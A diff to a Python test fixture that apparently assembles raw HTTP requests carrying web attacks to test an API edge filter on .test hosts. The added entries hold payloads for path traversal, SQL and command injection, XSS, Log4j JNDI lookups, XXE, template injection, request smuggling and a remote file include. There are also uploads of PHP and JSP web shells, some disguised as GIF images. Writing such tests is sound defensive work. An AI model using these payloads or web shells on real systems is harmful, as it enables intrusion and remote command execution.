@@ -1,4 +1,4 @@
-"""Forty-odd attacks by the part of a request that carries them, as raw HTTP/1.1. `HOST` stands for the name."""
+"""Attacks by the part of a request that carries them, as raw HTTP/1.1. `HOST` stands for the name."""
 
 from __future__ import annotations
 
@@ -7,6 +7,7 @@ import json
 API = "api.edge.test"
 CONSOLE = "console.edge.test"
 CHAT = "/v1/chat/completions"
+GEMINI = "/v1beta/models/gemini-2.5-pro:generateContent"
 
 
 def request(
@@ -44,6 +45,13 @@ def upload(filename: str, part: str = "Content-Type: audio/mpeg", more: str = ""
 
 def field(name: str, value: str) -> str:
     return f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
+
+
+def console_upload(filename: str, content: str, kind: str = "text/plain") -> bytes:
+    """A file that the console is sent."""
+    disposition = f'Content-Disposition: form-data; name="file"; filename="{filename}"'
+    body = f"--b\r\n{disposition}\r\nContent-Type: {kind}\r\n\r\n{content}\r\n--b--\r\n"
+    return request("/console/upload", body=body, kind="multipart/form-data; boundary=b", host=CONSOLE)
 
 
 CALL = json.dumps({"model": "m", "messages": [{"role": "user", "content": "hi"}]})
@@ -127,5 +135,95 @@ ATTACKS: dict[str, bytes] = {
     "upload_field_xss": upload("a.mp3", more=field("language", "<script>alert(1)</script>")),
     "upload_part_header": upload("a.mp3", part="Content-Type: text/html; charset=utf-7\r\nX: <script>"),
     "upload_broken": upload("a.mp3", more='--b\r\nContent-Disposition: form-data; name="x\r\n\r\nv\r\n'),
+    # more of each
+    "uri_encoded_slash_dots": request("/v1/models/..%252f..%252fadmin"),
+    "uri_semicolon_param": request("/v1/models/x;jsessionid=1"),
+    "uri_unicode_slash": request("/v1/%u002e%u002e/etc/passwd"),
+    "uri_win_share": request("/v1/models/%5c%5cevil%5cshare"),
+    "uri_php_wrapper": request("/v1/models/php://filter/convert.base64-encode/resource=x"),
+    "uri_wp": request("/wp-login.php"),
+    "uri_absolute": request("http://api.edge.test/v1/models/../../metrics"),
+    "uri_tab": request("/v1/models/a%09b"),
+    "uri_newline": request("/v1/models/a%0d%0aX: y"),
+    "uri_ssi": request("/v1/models/%3C!--%23exec%20cmd=ls--%3E"),
+    "query_sleep": request("/v1/models?after=1;SELECT%20pg_sleep(5)"),
+    "query_boolean": request("/v1/models?limit=1%20AND%201=1"),
+    "query_svg": request("/v1/models?order=%3Csvg/onload=alert(1)%3E"),
+    "query_backtick": request("/v1/models?after=%60id%60"),
+    "query_dollar": request("/v1/models?after=$(id)"),
+    "query_etc_file": request("/v1/models?after=/etc/passwd"),
+    "query_proc": request("/v1/models?after=/proc/self/environ"),
+    "query_log4j_env": request("/v1/models?after=%24%7Benv:HOME%7D"),
+    "query_null": request("/v1/models?after=a%00b"),
+    "query_gemini_key_sql": request(GEMINI + "?key=1'%20OR%20'1'='1", body=CALL),
+    "query_gemini_alt_xss": request(GEMINI + "?alt=%3Cscript%3E", body=CALL),
+    "header_referer_sql": request(
+        CHAT, "Referer: https://x/?a=1' UNION SELECT password FROM users-- -", CALL
+    ),
+    "header_agent_nikto": request("/v1/models").replace(b"attack/1.0", b"Mozilla/5.00 (Nikto/2.1.6)"),
+    "header_agent_nuclei": request("/v1/models").replace(
+        b"attack/1.0", b"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"
+    ),
+    "header_agent_masscan": request("/v1/models").replace(b"attack/1.0", b"masscan/1.3"),
+    "header_auth_jndi": request(CHAT, "Authorization: Bearer ${jndi:dns://x}", CALL),
+    "header_xss_agent": request("/v1/models").replace(b"attack/1.0", b"<script>alert(1)</script>"),
+    "header_te_smuggle": request(CHAT, "Transfer-Encoding: chunked", CALL),
+    "header_two_lengths": request(CHAT, "Content-Length: 1", CALL),
+    "header_te_odd": request(CHAT, "Transfer-Encoding: xchunked", CALL),
+    "header_space_name": request(CHAT, "Transfer-Encoding : chunked", CALL),
+    "header_rewrite_url": request("/v1/models", "X-Rewrite-URL: /admin"),
+    "header_content_encoding_on_the_console": request(
+        "/console/x", "Content-Encoding: gzip", "a=1", host=CONSOLE, kind="application/x-www-form-urlencoded"
+    ),
+    "header_anthropic_shellshock": request("/v1/messages", "anthropic-beta: () { :;}; /bin/bash -c id", CALL),
+    "cookie_command": request(CHAT, "Cookie: s=;cat /etc/passwd", CALL),
+    "cookie_lfi": request(CHAT, "Cookie: lang=../../../../etc/passwd", CALL),
+    "form_nosql": form("user[$ne]=1&password[$ne]=1"),
+    "form_ldap": form("user=*)(uid=*))(|(uid=*"),
+    "form_lfi": form("file=../../../../etc/passwd"),
+    "form_rfi": form("file=http://1.2.3.4/shell.txt?"),
+    "form_ssti_java": form("x=%23%7BT(java.lang.Runtime).getRuntime().exec('id')%7D"),
+    "form_node": form("x=require('child_process').exec('id')"),
+    "form_unserialize": form("x=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;s:1:%22b%22;%7D"),
+    "form_powershell": form("x=powershell.exe%20-enc%20SQBFAFgA"),
+    "form_session": form("x=document.cookie%3D%22PHPSESSID%3D1%22"),
+    "json_console_nested": request(
+        "/console/api", body='{"a":{"b":[{"c":"; cat /etc/passwd"}]}}', host=CONSOLE
+    ),
+    "json_console_unicode": request(
+        "/console/api", body='{"a":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}', host=CONSOLE
+    ),
+    "json_console_broken": request("/console/api", body='{"a": <script>', host=CONSOLE),
+    "xml_console_xxe": request(
+        "/console/api",
+        body='<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
+        host=CONSOLE,
+        kind="text/xml",
+    ),
+    "type_text_on_anthropic": request("/v1/messages", body=CALL, kind="text/plain"),
+    "type_multipart_on_gemini": request(GEMINI, body="--b--\r\n", kind="multipart/form-data; boundary=b"),
+    "type_json_suffix_on_a_call": request(CHAT, body=CALL, kind="application/x+json"),
+    "console_upload_php": console_upload("shell.php", "<?php system($_GET['c']); ?>"),
+    "console_upload_jsp": console_upload(
+        "shell.jsp", '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'
+    ),
+    "console_upload_jsp_as_image": console_upload("shell.jsp", "x", kind="image/png"),
+    "console_upload_php_as_image": console_upload(
+        "a.png.php", "GIF89a<?php eval($_POST[1]); ?>", kind="image/gif"
+    ),
+    "console_upload_php_in_png": console_upload(
+        "a.png", "GIF89a<?php system($_GET['c']); ?>", kind="image/gif"
+    ),
+    "console_upload_aspx": console_upload("x.aspx", '<%@ Page Language="C#" %>'),
+    "console_upload_war": console_upload("x.war", "PK"),
+    "upload_phar": upload("x.phar"),
+    "upload_php5_upper": upload("x.PHP5"),
+    "upload_asp": upload("x.asp;.mp3"),
+    "upload_html": upload("x.html"),
+    "upload_svg": upload("x.svg", part="Content-Type: image/svg+xml"),
+    "upload_field_php": upload("a.mp3", more=field("response_format", "<?php system('id'); ?>")),
+    "upload_field_lfi": upload("a.mp3", more=field("language", "../../../etc/passwd")),
+    "upload_field_jndi": upload("a.mp3", more=field("model", "${jndi:ldap://x/a}")),
+    "upload_field_log4j_nested": upload("a.mp3", more=field("model", "${${lower:j}ndi:ldap://x/a}")),
 }
-assert len(ATTACKS) >= 40
+assert len(ATTACKS) >= 120
